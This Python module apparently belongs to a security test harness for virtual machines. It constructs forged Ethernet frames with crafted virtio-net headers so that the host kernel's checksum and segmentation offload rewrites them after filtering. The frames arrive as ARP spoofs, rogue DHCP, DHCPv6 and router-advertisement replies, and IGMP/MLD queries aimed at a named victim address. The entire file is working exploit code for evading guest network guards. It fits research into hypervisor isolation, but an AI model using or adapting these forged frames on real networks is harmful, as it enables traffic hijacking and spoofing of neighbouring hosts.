# SPDX-License-Identifier: MIT
"""Frames that are one thing to the guards and another to their receiver: the virtio header before
them has the kernel write a checksum, of any value and at any place behind byte 20, or put wrong
lengths right, when the frame leaves the host (linux/virtio_net.h, skb_checksum_help() and
inet_gso_segment() of the kernel). vhost-net passes such headers on, whatever the flags of its tap
are."""
import struct
import typing

import frames
import owvm

ADDRESS, VICTIM, NETWORK = "192.168.7.5", "192.168.7.1", "192.168.7.4/30"
NEEDS_CSUM, GSO_TCPV4, GSO_UDP, GSO_UDP_L4 = 1, 1, 3, 5
HEADER = "<BBHHHH"
DHCP_CLIENT, DHCPV6_CLIENT = 68, 546
IGMP_REPORT, MLD_REPORT = b"\x16\0", b"\x83\0"


class Forged(typing.NamedTuple):
    """What is written, and what is heard where it gets by: its two bytes at `at` tell it."""
    data: bytes
    lie: bytes
    at: int

    def is_it(self, frame):
        return all(frame[at:at + 2] == self.lie[at:at + 2] for at in (12, self.at))


def changed_late(lie, at, free, harmless=b"\x07\x05"):
    """A header and a harmless frame that becomes `lie` in the two bytes at `at`: its checksum from
    there on is what is wanted. `free`: two bytes behind that may be anything."""
    frame = bytearray(lie)
    frame[at:at + 2] = harmless
    frame[free:free + 2] = b"\0\0"
    frame[free:free + 2] = struct.pack(">H", (frames.checksum(bytes(frame[at:])) -
                                              struct.unpack_from(">H", lie, at)[0]) % 0xFFFF)
    return Forged(struct.pack(HEADER, NEEDS_CSUM, 0, 0, 0, at, 0) + bytes(frame), lie, at)


def arp_sender(mac):
    """Another's address is at mine, for whoever has it in his cache."""
    claimed = mac[:12] + "ba:dd"
    lie = frames.arp_request(mac, ADDRESS, VICTIM, claimed)
    return changed_late(lie, 26, 50, owvm.mac_bytes(mac)[4:])


def arp_address(mac):
    return changed_late(frames.arp_request(mac, VICTIM, "192.168.7.9"), 30, 50)


def source(mac):
    lie = frames.udp(frames.BROADCAST, mac, VICTIM, "255.255.255.255", 4711, b"\0\0data")
    return changed_late(lie, 28, 42)


def dhcp_answer(mac):
    lie = frames.udp(frames.BROADCAST, mac, ADDRESS, "255.255.255.255", DHCP_CLIENT, b"\0\0offer")
    return changed_late(lie, 36, 42)


def dhcpv6_answer(mac):
    return changed_late(frames.udp6(mac, "ff02::1", DHCPV6_CLIENT, b"\0\0reply"), 56, 62)


def router_advertisement(mac):
    return changed_late(frames.router_advertisement(mac), 54, 60)


def igmp_query(mac):
    return changed_late(frames.igmp_query(mac, ADDRESS), 34, 44, IGMP_REPORT)


def mld_query(mac):
    return changed_late(frames.mld_query(mac), 62, 68, MLD_REPORT)


def to_be_cut(lie, kind, size_at, transport, port_at):
    """A datagram that is to be cut, and says to be longer than it is: no guard reads on."""
    header = struct.pack(HEADER, NEEDS_CSUM, kind, transport + 8, 200, transport, 6)
    return Forged(header + lie[:size_at] + struct.pack(">H", 9000) + lie[size_at + 2:], lie,
                  port_at)


def dhcp_answer_to_be_cut(mac, kind=GSO_UDP_L4):
    lie = frames.udp(frames.BROADCAST, mac, ADDRESS, "255.255.255.255", DHCP_CLIENT, b"offer" * 60)
    return to_be_cut(lie, kind, 16, 34, 36)


def dhcp_answer_in_fragments(mac):
    return dhcp_answer_to_be_cut(mac, GSO_UDP)


def dhcpv6_answer_to_be_cut(mac):
    """To all, as a bridge that snoops looks at the lengths of what goes to groups."""
    lie = owvm.mac_bytes(frames.BROADCAST) + frames.udp6(mac, "ff02::1", DHCPV6_CLIENT,
                                                         b"reply" * 60)[6:]
    return to_be_cut(lie, GSO_UDP_L4, 18, 54, 56)


LIES = [arp_sender, arp_address, source, dhcp_answer, dhcpv6_answer, router_advertisement,
        igmp_query, mld_query, dhcp_answer_to_be_cut, dhcp_answer_in_fragments,
        dhcpv6_answer_to_be_cut]


def segment(mac, data):
    """An honest one of TCP, far longer than a frame: the kernel is to cut it and to sum it up."""
    frame = frames.tcp(frames.BROADCAST, mac, ADDRESS, VICTIM, (4000, 4711), 16, data)
    pseudo = ~frames.checksum(frame[26:34] + struct.pack(">HH", frames.TCP, 20 + len(data)))
    return (struct.pack(HEADER, NEEDS_CSUM, GSO_TCPV4, 54, 1400, 34, 16) +
            frame[:50] + struct.pack(">H", pseudo & 0xFFFF) + frame[52:])
